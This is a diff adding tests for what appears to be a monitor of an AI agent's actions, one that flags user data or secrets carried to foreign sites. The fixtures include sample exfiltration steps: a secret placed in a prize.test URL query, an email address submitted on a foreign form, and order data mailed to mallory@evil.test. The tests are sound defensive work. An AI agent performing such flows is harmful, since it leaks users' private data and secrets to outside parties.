@@ -216,3 +216,76 @@ def test_a_value_keeps_its_first_places() -> None:
     for number in range(3 * PLACES_KEPT):
         seen.remember(("v",), (), (f"place-{number}",))
     assert list(seen.places_of_value("v") or ()) == [f"place-{number}" for number in range(PLACES_KEPT)]
+
+
+def submit(at: str, kind: Kind = Kind.SUBMIT, tag: str = "button", sort: str = "submit") -> Action:
+    button = Element(tag=tag, type=sort)
+    return Action(sequence=3, tool="click", kind=kind, url=at, element=button)
+
+
+def test_typing_a_value_elsewhere_does_not_make_that_its_source() -> None:
+    family = flow("Use https://shop.example")
+    read(family, f"Order 884201997735512 {SECRET}")
+    family.action(type_in(f"884201997735512 {SECRET}", "https://prize.test/"))
+    read(family, f"You typed 884201997735512 {SECRET}", "https://prize.test/")
+    assert family.action(go("https://prize.test/?o=884201997735512")).foreign_target == "prize.test"
+    assert family.action(go(f"https://prize.test/?o={SECRET}")).carries_secret
+
+
+@pytest.mark.parametrize("kind", [Kind.SUBMIT, Kind.CLICK])
+def test_submitting_what_was_seen_elsewhere_on_a_foreign_site_is_seen(kind: Kind) -> None:
+    family = flow("Check my order on https://shop.example")
+    read(family, "jo.doe@corp.example")
+    family.action(type_in("jo.doe@corp.example", "https://prize.test/"))
+    facts = family.action(submit("https://prize.test/", kind))
+    assert (facts.foreign_target, facts.carried_from) == ("prize.test", ("shop.example",))
+
+
+def test_submitting_is_ordinary_where_the_task_says_what_or_where() -> None:
+    for task, site in (
+        ("Sign up jo.doe@corp.example at some newsletter, see https://shop.example", "https://prize.test/"),
+        ("Take the address from https://shop.example to https://prize.test", "https://prize.test/"),
+        ("Check https://shop.example", SHOP),
+    ):
+        family = flow(task)
+        read(family, "jo.doe@corp.example", "https://shop.example/me")
+        family.action(type_in("jo.doe@corp.example", site))
+        assert family.action(submit(site)) == FlowFacts()
+
+
+def test_a_click_that_submits_nothing_sends_nothing() -> None:
+    family = flow("Check my order on https://shop.example")
+    read(family, "jo.doe@corp.example")
+    family.action(type_in("jo.doe@corp.example", "https://prize.test/"))
+    assert family.action(submit("https://prize.test/", Kind.CLICK, tag="a", sort="")) == FlowFacts()
+
+
+@pytest.mark.parametrize(
+    ("to", "read_first", "foreign"),
+    [
+        ("mallory@evil.test", "", "mallory@evil.test"),
+        ("dana@corp.example", "", ""),
+        ("lee@partner.test", "From: lee@partner.test. Where is 884201997735512?", ""),
+    ],
+)
+def test_values_mailed_to_a_stranger_are_seen_but_not_answers_to_who_wrote_them(
+    to: str, read_first: str, foreign: str
+) -> None:
+    family = flow("Answer my mail, and tell Dana")
+    read(family, "Order 884201997735512", "orders", Source.TOOL_RESULT)
+    read(family, read_first, "mail", Source.TOOL_RESULT)
+    mail = Action(
+        sequence=3,
+        tool="send_email",
+        kind=Kind.MESSAGE,
+        effects=frozenset({Effect.SEND}),
+        arguments={"to": [to], "body": "Order 884201997735512"},
+    )
+    assert family.action(mail).foreign_target == foreign
+
+
+def test_a_brand_in_the_task_is_enough_for_values_but_not_for_secrets() -> None:
+    family = flow("Look it up at Lampenwelt")
+    read(family, f"884201997735512 {SECRET}", "note", Source.TOOL_RESULT)
+    assert family.action(go("https://www.lampenwelt.de/?q=884201997735512")) == FlowFacts()
+    assert family.action(go(f"https://www.lampenwelt.de/?q={SECRET}")).carries_secret
